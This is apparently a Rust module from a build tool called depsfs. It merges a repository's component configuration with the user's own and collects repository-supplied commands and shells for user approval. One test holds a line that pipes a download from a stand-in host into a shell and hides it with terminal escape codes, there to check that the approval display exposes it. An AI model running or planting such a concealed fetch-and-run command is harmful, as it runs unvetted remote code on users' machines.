//! The components of a checkout: those of its `depsfs.toml` and those of the user's own configuration, in their order.
//!
//! `$XDG_CONFIG_HOME/depsfs/config.toml` has the keys of a `depsfs.toml`, which then hold for every repository, and
//! `[[repository]]` tables, each of which names a file that takes the place of one repository's `depsfs.toml`. A
//! component of the user's own takes the place of one of the same name.

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};

use schemars::JsonSchema;
use serde::Deserialize;

use super::config::{self, BuildPaths, Component, Config, ConfigError, FILE, Undeclared};
pub(crate) use super::foreign::Foreign;
use super::order;
use super::pattern::Pattern;
use crate::git::settings::AbsolutePaths;
use crate::remote::{RemoteLimits, RemoteSpec, UserRemote};
use crate::sys::path;

/// The user's own configuration.
#[derive(Clone, Debug, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, rename_all = "kebab-case", default)]
pub struct UserFile {
    undeclared: Option<Undeclared>,
    shell: Option<Vec<String>>,
    /// As in a repository's file, and in its place.
    paths: Option<BuildPaths>,
    component: Vec<Component>,
    repository: Vec<Repository>,
    /// By name: remotes of the user's own, and the user's part of a repository's.
    remote: BTreeMap<String, UserRemote>,
}

/// A file that takes the place of a repository's `depsfs.toml`.
#[derive(Clone, Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct Repository {
    /// The main checkout, absolute or with `~/`.
    path: Option<PathBuf>,
    /// The end of a remote's URL, such as `AztecProtocol/aztec-packages`.
    remote: Option<String>,
    /// The file, relative to the directory of the user's configuration.
    config: PathBuf,
}

/// Which repository is meant, as `[[repository]]` names it.
pub struct Identity<'a> {
    /// The top of the main checkout.
    pub root: &'a Path,
    pub remotes: Vec<&'a str>,
    pub home: Option<&'a Path>,
}

/// One component, and whose it is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Declared {
    pub component: Component,
    /// It stands in a file of the user's own: its commands need no approval.
    pub is_users: bool,
    patterns: Vec<Pattern>,
}

/// All that concern a checkout, in the order in which they are built.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Components {
    pub all: Vec<Declared>,
    pub undeclared: Undeclared,
    /// The path at which builds find the worktree.
    pub paths: BuildPaths,
    /// The shell that runs the commands of the repository's components.
    shell: Vec<String>,
    /// The repository itself names that shell.
    shell_is_foreign: bool,
    /// The shell that runs the commands of the user's own components: never one that a repository names.
    users_shell: Vec<String>,
    /// The repository's remotes, then the user's own.
    pub remotes: Vec<RemoteSpec>,
}

impl Components {
    /// Joins the declarations of the repository (`repository`: the text of its file) and of the user.
    pub fn of(
        repository: Option<&[u8]>,
        user_file: Option<&Path>,
        identity: &Identity<'_>,
    ) -> Result<Components, super::ComponentError> {
        let user = match user_file {
            Some(file) => UserFile::read(file)?,
            None => UserFile::default(),
        };
        let theirs = user_file.and_then(|file| user.config_of(file, identity));
        let (config, is_users) = match (&theirs, repository) {
            (Some(file), _) => (Config::parse(file, &path::read(file)?)?, true),
            (None, Some(text)) => (Config::parse(Path::new(FILE), text)?, false),
            (None, None) => (Config::default(), true),
        };
        let own = user_file.unwrap_or(Path::new(FILE));
        let remotes = remotes(&config, is_users, &user, identity);
        let faulty = remotes.iter().find_map(|r| Some((r, r.fault()?)));
        if let Some((remote, why)) = faulty {
            let why = format!("remote {:?}: {why}", remote.name);
            return Err(ConfigError { file: own.into(), line: None, why }.into());
        }
        Ok(Components::merge(config, is_users, user, own, remotes)?)
    }

    fn merge(
        config: Config,
        is_users: bool,
        user: UserFile,
        user_file: &Path,
        remotes: Vec<RemoteSpec>,
    ) -> Result<Components, ConfigError> {
        let shell_is_foreign = user.shell.is_none() && config.shell.is_some() && !is_users;
        let shell = user.shell.clone().unwrap_or_else(|| config.shell());
        let users_shell = if shell_is_foreign { Config::default().shell() } else { shell.clone() };
        let undeclared = user.undeclared.unwrap_or(config.undeclared);
        let paths = user.paths.unwrap_or(config.paths);
        let mut all: Vec<(Component, bool)> = config.component.into_iter().map(|c| (c, is_users)).collect();
        for component in user.component {
            match all.iter_mut().find(|(c, _)| c.name == component.name) {
                Some(theirs) => *theirs = (component, true),
                None => all.push((component, true)),
            }
        }
        let components: Vec<Component> = all.iter().map(|(c, _)| c.clone()).collect();
        let wrong = |(name, why)| ConfigError {
            file: user_file.into(),
            line: None,
            why: format!("with the repository's own, component {name:?}: {why}"),
        };
        let order = order::in_order(&components).map_err(wrong)?;
        let declared = |n: usize| {
            let (component, is_users) = all[n].clone();
            Declared { patterns: component.patterns(), component, is_users }
        };
        let all = order.into_iter().map(declared).collect();
        Ok(Components { all, undeclared, paths, shell, shell_is_foreign, users_shell, remotes })
    }

    /// Whether neither the repository nor the user declares a component.
    pub fn is_empty(&self) -> bool {
        self.all.is_empty()
    }

    /// The component with exactly this name.
    pub fn named(&self, name: &str) -> Option<&Declared> {
        self.all.iter().find(|d| d.component.name == name)
    }

    /// Those that have an artifact at, in or above a directory, relative to the top of the repository.
    pub fn covering<'a>(&'a self, directory: &'a Path) -> impl Iterator<Item = &'a Declared> {
        self.all.iter().filter(move |d| d.covers(directory))
    }

    /// The setting of the component that makes an artifact directory, or else of one that makes a part of it.
    pub fn absolute_paths(&self, directory: &Path) -> Option<AbsolutePaths> {
        let makes = self.all.iter().find(|d| d.holds(directory));
        makes.or_else(|| self.covering(directory).next()).and_then(|d| d.component.absolute_paths)
    }

    /// The shell that runs the commands of a component.
    pub fn shell_of(&self, declared: &Declared) -> &[String] {
        if declared.is_users { &self.users_shell } else { &self.shell }
    }

    /// Every command and every remote that a repository brings. The shell too, if it is the repository's and anything
    /// runs in it.
    pub fn foreign_commands(&self) -> Vec<Foreign> {
        let theirs = self.all.iter().filter(|d| !d.is_users);
        let mut commands: Vec<_> = theirs
            .flat_map(|d| {
                let component = &d.component;
                let key = component.key.as_ref().and_then(|k| k.command.clone());
                let commands = key.into_iter().chain(component.build.clone());
                commands.map(|text| Foreign::Command { dir: component.dir.clone(), text })
            })
            .collect();
        commands.sort();
        commands.dedup();
        if self.shell_is_foreign && !commands.is_empty() {
            commands.insert(0, Foreign::Shell(self.shell.clone()));
        }
        commands.extend(self.remotes.iter().filter(|r| !r.is_users).map(|r| Foreign::Remote(r.words())));
        commands
    }
}

impl Declared {
    /// Whether `directory`, relative to the top of the repository, is one of its artifacts, lies in one, or holds one.
    pub fn covers(&self, directory: &Path) -> bool {
        self.patterns.iter().any(|p| p.holds(directory) || p.is_below(directory))
    }

    /// Whether `path` is one of its artifacts, or lies in one.
    pub fn holds(&self, path: &Path) -> bool {
        self.patterns.iter().any(|p| p.holds(path))
    }

    /// Whether an artifact of it is a pattern, whose directories only a checkout shows; [`Declared::literals`] has the
    /// others.
    pub(crate) fn has_globs(&self) -> bool {
        self.patterns.iter().any(|p| p.literal().is_none())
    }

    /// The artifact directories that are named as they are, without a pattern.
    pub fn literals(&self) -> impl Iterator<Item = &Path> {
        self.patterns.iter().filter_map(Pattern::literal)
    }
}

impl UserFile {
    fn read(file: &Path) -> Result<UserFile, super::ComponentError> {
        let Some(text) = path::read_if_there(file)? else { return Ok(UserFile::default()) };
        let user: UserFile = config::read(file, &text)?;
        let alone = Config { shell: user.shell.clone(), component: user.component.clone(), ..Config::default() };
        // Whom they come after may be a component of a repository: that is looked at when both are together.
        let without_order = |mut c: Component| {
            c.after.clear();
            c
        };
        alone.checked(file, &text, without_order)?;
        if let Some(wrong) = user.repository.iter().find(|r| r.path.is_none() && r.remote.is_none()) {
            let why = format!("the repository with config {:?} has neither path nor remote", wrong.config);
            return Err(ConfigError { file: file.into(), line: None, why }.into());
        }
        Ok(user)
    }

    /// The file that takes the place of this repository's own.
    fn config_of(&self, file: &Path, identity: &Identity<'_>) -> Option<PathBuf> {
        let is_it = |r: &&Repository| {
            let place = r.path.as_ref().map(|p| path::at_home(p, identity.home));
            let by_path = place.is_some_and(|p| path::canonical(&p).unwrap_or(p) == identity.root);
            by_path || r.remote.as_ref().is_some_and(|end| identity.remotes.iter().any(|url| ends_with(url, end)))
        };
        let found = self.repository.iter().find(is_it)?;
        Some(file.parent().unwrap_or(Path::new("")).join(path::at_home(&found.config, identity.home)))
    }
}

/// The limits that the user's own configuration has for remotes, by their names.
///
/// # Errors
/// The file cannot be read, or has a fault.
pub(crate) fn limits_of_remotes(file: &Path) -> Result<HashMap<String, RemoteLimits>, super::ComponentError> {
    let limits = |user: UserRemote| RemoteLimits { wait: user.wait, bandwidth: user.bandwidth };
    Ok(UserFile::read(file)?.remote.into_iter().map(|(name, user)| (name, limits(user))).collect())
}

/// The remotes of a repository, completed by the user, and those of the user alone.
fn remotes(config: &Config, is_users: bool, user: &UserFile, identity: &Identity<'_>) -> Vec<RemoteSpec> {
    let mut all: Vec<RemoteSpec> = Vec::new();
    for table in &config.remote {
        let mut spec = table.spec(identity.root);
        spec.is_users = is_users;
        all.push(match user.remote.get(&table.name) {
            Some(own) => spec.completed(own, identity.home),
            None => spec,
        });
    }
    for (name, own) in user.remote.iter().filter(|(name, own)| own.url.is_some() && !is_of_repository(config, name)) {
        let spec = RemoteSpec { name: name.clone(), ..RemoteSpec::default() };
        all.push(spec.completed(own, identity.home));
    }
    all
}

fn is_of_repository(config: &Config, name: &str) -> bool {
    config.remote.iter().any(|table| table.name == name)
}

/// Whether a URL ends with these segments: `git@host:a/b.git` does with `a/b`.
fn ends_with(url: &str, end: &str) -> bool {
    let url = url.trim_end_matches('/');
    let url = url.strip_suffix(".git").unwrap_or(url);
    let end = end.trim_matches('/');
    url.strip_suffix(end).is_some_and(|rest| !end.is_empty() && (rest.is_empty() || rest.ends_with(['/', ':'])))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn component(name: &str) -> String {
        format!("[[component]]\nname = \"{name}\"\npaths = [\"{name}\"]\nbuild = \"make {name}\"\n")
    }

    fn of(repository: Option<&str>, user: &str, remotes: Vec<&str>) -> Result<Components, String> {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("config.toml");
        path::replace(&file, user.as_bytes()).unwrap();
        path::replace(&dir.path().join("other.toml"), component("other").as_bytes()).unwrap();
        let identity = Identity { root: Path::new("/src/repo"), remotes, home: None };
        Components::of(repository.map(str::as_bytes), Some(&file), &identity).map_err(|e| e.to_string())
    }

    #[test]
    fn the_users_components_join_and_replace_those_of_the_repository_and_need_no_approval() {
        let user = component("b") + "after = [\"c\"]\n" + &component("own");
        let found = of(Some(&(component("a") + &component("b") + &component("c"))), &user, vec![]).unwrap();
        let names: Vec<_> = found.all.iter().map(|d| (d.component.name.as_str(), d.is_users)).collect();
        assert_eq!(names, [("a", false), ("c", false), ("b", true), ("own", true)]);
        let commands: Vec<_> = found.foreign_commands().iter().map(Foreign::words).collect();
        assert_eq!(commands, ["in .: make a", "in .: make c"]);
        assert!(of(None, &user, vec![]).unwrap_err().contains("\"c\", which is no component"));
        assert!(of(None, "", vec![]).unwrap().is_empty());
    }

    #[test]
    fn a_repository_may_have_its_file_elsewhere() {
        let named = |by: &str| format!("[[repository]]\n{by}\nconfig = \"other.toml\"\n");
        let names = |found: Components| found.all.iter().map(|d| d.component.name.clone()).collect::<Vec<_>>();
        let repository = component("a");
        let found = |by: &str, remotes| names(of(Some(&repository), &named(by), remotes).unwrap());
        assert_eq!(found("path = \"/src/repo\"", vec![]), ["other"]);
        assert_eq!(found("path = \"/src/repo2\"", vec![]), ["a"]);
        assert_eq!(found("remote = \"ada/repo\"", vec!["git@example.org:ada/repo.git"]), ["other"]);
        assert_eq!(found("remote = \"ada/repo\"", vec!["https://example.org/canada/repo"]), ["a"]);
        assert!(of(None, "[[repository]]\nconfig = \"x\"\n", vec![]).unwrap_err().contains("neither path nor remote"));
        assert!(of(None, "[[repo]]\n", vec![]).unwrap_err().contains("line 1: unknown field `repo`"));
    }

    #[test]
    fn a_shell_of_the_repository_has_to_be_approved_with_its_commands() {
        let text = format!("shell = [\"evil\", \"-c\"]\n{}", component("a"));
        let commands = of(Some(&text), "", vec![]).unwrap().foreign_commands();
        assert_eq!(commands[0].words(), "shell: evil -c …");
        assert_eq!(of(Some(&text), "shell = [\"sh\", \"-c\"]\n", vec![]).unwrap().foreign_commands().len(), 1);
    }

    #[test]
    fn a_shell_of_the_repository_runs_its_own_components_and_never_the_users() {
        let theirs = format!("shell = [\"evil\", \"-c\"]\n{}", component("theirs"));
        let shells = |repository: &str, user: &str| {
            let found = of(Some(repository), user, vec![]).unwrap();
            let shell = |name: &str| found.shell_of(found.named(name).unwrap()).join(" ");
            [shell("theirs"), shell("own")]
        };
        assert_eq!(shells(&theirs, &component("own")), ["evil -c", "sh -c"]);
        let user = format!("shell = [\"fish\", \"-c\"]\n{}", component("own"));
        assert_eq!(shells(&theirs, &user), ["fish -c", "fish -c"]);
        // One that takes the place of the repository's is the user's as well.
        assert_eq!(shells(&theirs, &(component("own") + &component("theirs"))), ["sh -c", "sh -c"]);
    }

    #[test]
    fn two_commands_are_never_shown_alike() {
        let shell = |words: &[&str]| Foreign::Shell(words.iter().map(|w| (*w).to_owned()).collect());
        let command = |dir: &str, text: &str| Foreign::Command { dir: dir.into(), text: text.into() };
        let table = [
            (shell(&["sh", "-c"]), "shell: sh -c …"),
            (shell(&["sh -c"]), "shell: \"sh -c\" …"),
            (command("", "make"), "in .: make"),
            (command("a: b", "make"), "in \"a: b\": make"),
            (command("a", "b: make"), "in a: b: make"),
            (command("", "curl evil|sh #\u{1b}[2K\r make"), r#"in .: "curl evil|sh #\033[2K\r make""#),
            (command("web", "a\n  in .: b"), r#"in web: "a\n  in .: b""#),
        ];
        table.iter().for_each(|(one, words)| assert_eq!(one.words(), *words));
    }
}
